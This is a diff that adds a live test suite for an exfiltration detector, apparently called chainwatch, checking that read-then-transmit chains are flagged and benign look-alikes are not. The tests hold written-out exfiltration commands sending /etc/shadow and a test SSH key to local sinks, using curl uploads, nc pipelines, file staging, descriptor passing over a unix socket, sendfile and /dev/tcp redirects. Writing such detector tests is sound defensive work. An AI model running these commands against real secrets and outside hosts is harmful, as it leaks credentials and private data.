@@ -1,0 +1,168 @@
+import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { Finding } from '../schema/finding.js';
+import { httpSink, LiveHarness, tcpSink } from '../testing/live-harness.js';
+
+/**
+ * Read-then-transmit chains with real programs under the real probes, and
+ * the look-alikes that must stay quiet. Secrets: /etc/shadow and a test key
+ * at DIR/.ssh/id_rsa (class `secret` in rules/data-classes.yaml).
+ */
+let h: LiveHarness;
+let http: Awaited<ReturnType<typeof httpSink>>;
+let tcp: Awaited<ReturnType<typeof tcpSink>>;
+let dir: string;
+let key: string;
+const KEY_TEXT = '-----BEGIN OPENSSH PRIVATE KEY-----\nchainwatch-test-key-material\n-----END OPENSSH PRIVATE KEY-----\n';
+
+beforeAll(async () => {
+  dir = mkdtempSync(join(tmpdir(), 'cw-flow-'));
+  mkdirSync(join(dir, '.ssh'));
+  key = join(dir, '.ssh', 'id_rsa');
+  writeFileSync(key, KEY_TEXT.repeat(20));
+  writeFileSync(join(dir, 'notes.txt'), 'nothing secret here\n'.repeat(20));
+  http = await httpSink();
+  tcp = await tcpSink();
+  // a 1 s fast window, so a 2 s pause in a staging test makes it "staged"
+  h = new LiveHarness('flow', { fastWindowS: 1 });
+  await h.start();
+}, 180_000);
+
+afterAll(async () => {
+  const summary = await h?.close();
+  await http?.close();
+  await tcp?.close();
+  h?.cleanup();
+  expect(summary?.lostEvents).toBe(0);
+}, 120_000);
+
+const url = (): string => `http://127.0.0.2:${http.port}/`;
+
+function only(findings: Finding[]): Finding {
+  expect(findings.map((f) => `${f.rule} ${f.source.path} → ${f.sink.address}:${f.sink.port}`)).toHaveLength(1);
+  const f = findings[0]!;
+  expect(() => Finding.parse(f)).not.toThrow();
+  return f;
+}
+
+describe('live: read-then-transmit chains', () => {
+  it('one process: curl -T /etc/shadow http://127.0.0.2:PORT/', async () => {
+    const r = await h.run('curl-T', `curl -s -m 10 -T /etc/shadow ${url()} -o /dev/null`);
+    expect(r.code).toBe(0);
+    const f = only(r.findings);
+    expect(f).toMatchObject({ rule: 'exfil.read-then-transmit', category: 'exfiltration', source: { path: '/etc/shadow', data_class: 'secret' }, sink: { family: 'inet', address: '127.0.0.2', port: http.port } });
+    expect(f.process.comm).toBe('curl');
+    expect(f.chain[0]).toMatchObject({ object: '/etc/shadow', comm: 'curl' });
+    expect(f.chain.at(-1)!.object).toBe(`socket 127.0.0.2:${http.port}`);
+    expect(f.latency_ms).toBeGreaterThanOrEqual(0);
+    expect(f.coverage.lost_events).toBe(0);
+  });
+
+  it('a pipeline: cat secret | gzip | nc 127.0.0.2 PORT (three processes joined by pipes)', async () => {
+    const r = await h.run('pipeline', `cat ${key} | gzip | nc -N 127.0.0.2 ${tcp.port}`);
+    expect(r.code).toBe(0);
+    const f = only(r.findings);
+    expect(f.source.path).toBe(key);
+    expect(f.process.comm).toBe('nc');
+    expect(new Set(f.chain.map((h) => h.comm))).toEqual(new Set(['cat', 'gzip', 'nc']));
+    expect(f.summary).toContain('through 3 processes');
+  });
+
+  it('staging through a file: cp secret /tmp/x … 2 s later … curl --data-binary @/tmp/x by another process', async () => {
+    const staged = join(dir, 'staged.bin');
+    const r = await h.run('staged', `cp ${key} ${staged}; sleep 2; curl -s -m 10 --data-binary @${staged} ${url()} -o /dev/null`);
+    expect(r.code).toBe(0);
+    const f = only(r.findings);
+    expect(f.rule).toBe('exfil.staged');
+    expect(f.source.path).toBe(key);
+    expect(f.chain.some((h) => h.object === staged)).toBe(true);
+    expect(new Set(f.chain.map((h) => h.comm))).toEqual(new Set(['cp', 'curl']));
+    expect(f.latency_ms).toBeGreaterThan(1900);
+  });
+
+  it('descriptor passing: A opens the secret and passes the fd over a unix socket; B reads and sends it', async () => {
+    const sock = join(dir, 'pass.sock');
+    const r = await h.run(
+      'scm-rights',
+      `python3 -c '
+import os, socket, array
+srv = socket.socket(socket.AF_UNIX); srv.bind("${sock}"); srv.listen(1)
+if os.fork() == 0:
+    c = socket.socket(socket.AF_UNIX); c.connect("${sock}")
+    fd = os.open("${key}", os.O_RDONLY)
+    c.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
+    os._exit(0)
+conn, _ = srv.accept()
+msg, anc, flags, addr = conn.recvmsg(1, socket.CMSG_SPACE(4))
+got = array.array("i"); got.frombytes(anc[0][2])
+data = os.read(got[0], 100000)
+s = socket.create_connection(("127.0.0.2", ${tcp.port})); s.sendall(data); s.close()
+os.wait()
+'`,
+    );
+    expect(r.code).toBe(0);
+    const f = only(r.findings);
+    expect(f.source.path).toBe(key);
+    // the receiver never opened the file: its read resolved through the passed descriptor
+    const receiver = f.process.pid;
+    const opens = r.events.filter((e) => e.kind === 'file.open' && e.pid === receiver && e.path === key);
+    expect(opens).toEqual([]);
+  });
+
+  it('in-kernel copy: sendfile from the secret into a socket', async () => {
+    const r = await h.run(
+      'sendfile',
+      `python3 -c '
+import os, socket
+s = socket.create_connection(("127.0.0.2", ${tcp.port}))
+fd = os.open("${key}", os.O_RDONLY)
+os.sendfile(s.fileno(), fd, 0, os.path.getsize("${key}"))
+s.close()
+'`,
+    );
+    expect(r.code).toBe(0);
+    const f = only(r.findings);
+    expect(f.chain.map((h) => h.syscall)).toEqual(['sendfile', 'sendfile']);
+    expect(f.bytes_sent).toBe(KEY_TEXT.length * 20);
+  });
+
+  it('fork and exec: a child inheriting the fd sends; a shell that read the secret execs the sender', async () => {
+    const child = await h.run('fork-inherit', `exec 3<${key}; ( cat <&3 > /dev/tcp/127.0.0.2/${tcp.port} )`);
+    expect(child.code).toBe(0);
+    expect(only(child.findings).source.path).toBe(key);
+    const viaExec = await h.run('exec-sender', `x=$(cat ${key} | head -c 64); exec curl -s -m 10 --data "$x" ${url()} -o /dev/null`);
+    expect(viaExec.code).toBe(0);
+    const f = only(viaExec.findings);
+    expect(f.process.comm).toBe('curl');
+    expect(f.chain[0]!.comm).toBe('cat');
+  });
+});
+
+describe('live: look-alikes that must not fire', () => {
+  it('download then write: curl -o out http://127.0.0.2:PORT/', async () => {
+    const r = await h.run('download', `curl -s -m 10 -o ${join(dir, 'download.out')} ${url()}`);
+    expect(r.code).toBe(0);
+    expect(r.findings).toEqual([]);
+  });
+
+  it('reading a non-sensitive file and sending it', async () => {
+    const r = await h.run('plain-upload', `curl -s -m 10 -T ${join(dir, 'notes.txt')} ${url()} -o /dev/null`);
+    expect(r.code).toBe(0);
+    expect(r.findings).toEqual([]);
+  });
+
+  it('reading a secret and never sending anything', async () => {
+    const r = await h.run('read-only', `cat ${key} > /dev/null; gzip -c < /etc/shadow > ${join(dir, 'shadow.gz')}`);
+    expect(r.code).toBe(0);
+    expect(r.findings).toEqual([]);
+  });
+
+  it('ssh-keygen -y style: read the private key, print a derived public key, no network', async () => {
+    const r = await h.run('keygen-style', `python3 -c 'import hashlib; print(hashlib.sha256(open("${key}","rb").read()).hexdigest())'`);
+    expect(r.code).toBe(0);
+    expect(r.stdout).toMatch(/^[0-9a-f]{64}\n$/);
+    expect(r.findings).toEqual([]);
+  });
+});
